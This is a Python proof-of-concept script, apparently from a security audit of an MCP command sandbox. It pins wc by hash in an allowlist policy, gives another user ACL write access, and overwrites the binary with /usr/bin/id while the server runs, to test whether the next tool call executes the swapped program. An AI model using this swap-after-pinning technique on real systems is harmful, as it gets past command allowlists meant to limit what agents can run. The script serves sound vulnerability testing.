#!/usr/bin/env python3
# atk35 F2 (binary variant): a pinned binary the policy owner keeps in ~/bin, with a POSIX ACL giving
# atkeve write. serve (as atkann, stdio) accepts it; atkeve rewrites it while serve runs; the next call
# runs atkeve's program. Run as root (uses runuser); users atkann (1002), atkeve (1003).
import json, subprocess, os, hashlib, shutil, time
H='/home/atkann'; B='/tmp/atk35/mcpsandbox-pub'
os.makedirs(H+'/bin', exist_ok=True); os.makedirs(H+'/cfg/ws', exist_ok=True)
shutil.copy('/usr/bin/wc', H+'/bin/wc'); os.chmod(H+'/bin/wc', 0o755)
for p in [H+'/bin', H+'/bin/wc', H+'/cfg', H+'/cfg/ws']: os.chown(p, 1002, 1002)
os.chmod(H+'/bin', 0o755); os.chmod(H+'/cfg', 0o755)
sha = hashlib.sha256(open(H+'/bin/wc','rb').read()).hexdigest()
pol = f'''version = 1
scheme = "allowlist"
[audit]
path = "{H}/cfg/audit.jsonl"
[allowlist]
workspace = "{H}/cfg/ws"
[[allowlist.commands]]
name = "wc"
path = "{H}/bin/wc"
sha256 = "{sha}"
'''
open(H+'/cfg/pb.toml','w').write(pol); os.chown(H+'/cfg/pb.toml',1002,1002); os.chmod(H+'/cfg/pb.toml',0o600)
subprocess.run(['python3','/work/notes/atk35/setacl.py',H+'/bin/wc','1003','6'])
p = subprocess.Popen(['/usr/sbin/runuser','-u','atkann','--',B,'serve','--policy',H+'/cfg/pb.toml'], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                     stderr=open('/tmp/atk35/f2d.err','wb'), env={'PATH':'/usr/bin:/bin','HOME':H})
def send(o): p.stdin.write((json.dumps(o)+'\n').encode()); p.stdin.flush()
def recv(i):
    while True:
        l = p.stdout.readline()
        if not l: return None
        m = json.loads(l)
        if m.get('id') == i: return m
send({"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}})
m0 = recv(1); print('initialize:', 'ok' if m0 and 'result' in m0 else m0)
send({"jsonrpc":"2.0","method":"notifications/initialized"})
def call(i, args):
    send({"jsonrpc":"2.0","id":i,"method":"tools/call","params":{"name":"run_allowed_command","arguments":{"command":"wc","args":args}}})
    m = recv(i); r = m.get('result', m) if m else m
    return (r.get('structuredContent') or r) if isinstance(r, dict) else r
print('call 1 (wc --version):', json.dumps(call(2, ['--version']))[:200])
# atkeve rewrites the pinned binary in place (write permission from the ACL only): /usr/bin/id's bytes
subprocess.run(['/usr/sbin/runuser','-u','atkeve','--','sh','-c','cat /usr/bin/id > /home/atkann/bin/wc && echo atkeve rewrote wc'])
print('call 2 (wc --version):', json.dumps(call(3, ['--version']))[:300])
p.stdin.close(); p.wait(timeout=20)
print('serve stderr tail:', open('/tmp/atk35/f2d.err').read()[-400:])
